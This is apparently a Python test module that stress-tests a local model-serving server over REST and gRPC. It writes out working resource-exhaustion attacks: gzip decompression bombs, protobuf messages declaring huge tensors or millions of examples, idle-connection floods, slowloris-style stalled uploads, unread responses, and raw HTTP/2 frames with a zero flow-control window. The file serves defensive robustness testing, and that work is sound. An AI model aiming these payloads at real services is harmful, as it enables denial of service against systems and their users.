"""Requests of a few bytes that ask for much work, and connections that give nothing.

Each attack is a function of a server that takes how often; it returns when all is answered or
broken off, and gives the outcomes.
"""

import contextlib
import gzip
import http.client
import json
import socket
import time

import grpc
import numpy as np
from healthy import PREDICT, predict_request

CLASSIFY = "/tensorflow.serving.PredictionService/Classify"
REST = "/v1/models/m"


def post(server, path, body, **headers):
    """Status and the beginning of the text of a REST answer."""
    connection = http.client.HTTPConnection("127.0.0.1", server.rest, timeout=120)
    with contextlib.closing(connection):
        try:
            connection.request("POST", path, body, headers)
            response = connection.getresponse()
            return response.status, response.read()[:200].decode("utf-8", "replace")
        except OSError as error:
            return 0, str(error)


def call(server, path, message):
    """The code of a gRPC answer and its words."""
    with server.channel() as channel:
        try:
            channel.unary_unary(path)(message, timeout=120)
            return "OK", ""
        except grpc.RpcError as error:
            return error.code().name, error.details()[:200]


def packed_examples(server, scale=1.0):
    """8 million examples in gzip."""
    text = b'{"signature_name":"classify","examples":[' + b"{}," * int(8e6 * scale) + b"{}]}"
    body = gzip.compress(text, 6)
    return [lambda: post(server, f"{REST}:classify", body, **{"Content-Encoding": "gzip"})]


def packed_brackets(server, scale=1.0):
    """7 million lists of one number in gzip."""
    body = gzip.compress(b'{"instances":[' + b"[0]," * int(7e6 * scale) + b"[0]]}", 6)
    return [lambda: post(server, f"{REST}:predict", body, **{"Content-Encoding": "gzip"})]


def packed_nonsense(server, scale=1.0):
    """Megabytes that only Python's own parser reads, in gzip."""
    body = gzip.compress(b'{"instances":[' + b"NaN," * int(8e6 * scale) + b"x]}", 6)
    return [lambda: post(server, f"{REST}:predict", body, **{"Content-Encoding": "gzip"})]


def filled_tensor(server, scale=1.0):
    """A message of about 56 bytes that states 150,000 images."""
    message = predict_request((0, 28, 28, 1))
    request = type_of(message)
    request.inputs["images"].tensor_shape.dim[0].size = int(150_000 * scale)
    data = request.SerializeToString()
    assert len(data) < 80
    return [lambda: call(server, PREDICT, data)]


def type_of(message):
    """A Predict message, parsed."""
    from digitline.serving.protocol import messages

    return messages.PredictRequest.FromString(message)


def empty_examples(server, scale=1.0):
    """Two bytes an example: a message of many."""
    from digitline.serving.protocol import messages

    request = messages.ClassificationRequest()
    request.model_spec.name, request.model_spec.signature_name = "m", "classify"
    data = request.SerializeToString()
    content = b"\x0a\x00" * int(20e6 * scale)

    def field(number, value):
        head, size = bytearray([number << 3 | 2]), len(value)
        while size > 127:
            head.append(size & 127 | 128)
            size >>= 7
        return bytes([*head, size]) + value

    data += field(2, field(1, content))
    return [lambda: call(server, CLASSIFY, data)]


def honest_rest(server, scale=1.0):
    """10,000 images as JSON."""
    images = np.random.default_rng(1).integers(0, 256, (int(10_000 * scale), 28, 28, 1))
    body = json.dumps({"instances": images.tolist()})
    return [lambda: post(server, f"{REST}:predict", body)]


def honest_grpc(server, scale=1.0):
    """10,000 images in a message."""
    data = predict_request((int(10_000 * scale), 28, 28, 1))
    return [lambda: call(server, PREDICT, data)]


def slow_model(server, scale=1.0):
    """Calls of another model that take half a second, three at once."""
    data = predict_request((1, 28, 28, 1), "slow")

    def work():
        outcome = ("OK", "")
        for _ in range(int(10 * scale)):
            outcome = call(server, PREDICT, data)
        return outcome

    return [work] * 3


def connected(port, count):
    """Connections, as many as the system gives."""
    sockets = []
    for _ in range(count):
        try:
            sockets.append(socket.create_connection(("127.0.0.1", port), timeout=5))
        except OSError:
            break
    return sockets


def idle(server, scale=1.0):
    """2,000 connections on each port that say nothing."""

    def work():
        sockets = [*connected(server.port, int(2000 * scale)),
                   *connected(server.rest, int(2000 * scale))]  # fmt: skip
        time.sleep(3)
        for each in sockets:
            each.close()
        return "closed", ""

    return [work]


def stalled_uploads(server, scale=1.0):
    """Bodies of which the last byte never comes."""
    part = b"1," * (1 << 20)

    def work():
        sockets = connected(server.rest, int(200 * scale))
        for each in sockets:
            with contextlib.suppress(OSError):
                head = (
                    f"POST {REST}:predict HTTP/1.1\r\nHost: a\r\nContent-Length: 100000000\r\n\r\n"
                )
                each.sendall(head.encode() + part)
        time.sleep(3)
        for each in sockets:
            each.close()
        return "closed", ""

    return [work]


def unread_answers(server, scale=1.0):
    """Large answers that nobody takes."""
    body = json.dumps({"instances": np.zeros((2000, 28, 28, 1), int).tolist(),
                       "signature_name": "activations"})  # fmt: skip
    head = f"POST {REST}:predict HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n\r\n"

    def work():
        sockets = connected(server.rest, int(50 * scale))
        for each in sockets:
            each.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            with contextlib.suppress(OSError):
                each.sendall(head.encode() + body.encode())
        time.sleep(10 * scale)
        for each in sockets:
            each.close()
        return "closed", ""

    return [work]


def unread_streams(server, scale=1.0):
    """Answers of 25 MB on gRPC streams whose client gives no window."""
    message = predict_request((0, 28, 28, 1))
    request = type_of(message)
    request.model_spec.signature_name = "activations"
    request.inputs["images"].tensor_shape.dim[0].size = 2000
    data = request.SerializeToString()

    def literal(name, value):
        return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

    def frame(kind, flags, stream, content):
        return (
            len(content).to_bytes(3, "big")
            + bytes([kind, flags])
            + stream.to_bytes(4, "big")
            + content
        )

    head = b"".join(
        literal(name.encode(), value.encode())
        for name, value in {":method": "POST", ":scheme": "http", ":path": PREDICT,
                            ":authority": "a", "content-type": "application/grpc",
                            "te": "trailers"}.items()
    )  # fmt: skip

    def work():
        (connection,) = connected(server.port, 1)
        # INITIAL_WINDOW_SIZE 0: nothing may be sent on a stream.
        connection.sendall(
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"\x00\x04" + bytes(4))
        )
        for stream in range(1, int(60 * scale) * 2, 2):
            body = b"\0" + len(data).to_bytes(4, "big") + data
            connection.sendall(frame(1, 4, stream, head) + frame(0, 1, stream, body))
        time.sleep(10 * scale)
        connection.close()
        return "closed", ""

    return [work]


ALL = (
    packed_examples, packed_brackets, packed_nonsense, filled_tensor, empty_examples, honest_rest,
    honest_grpc, slow_model, idle, stalled_uploads, unread_answers, unread_streams,
)  # fmt: skip
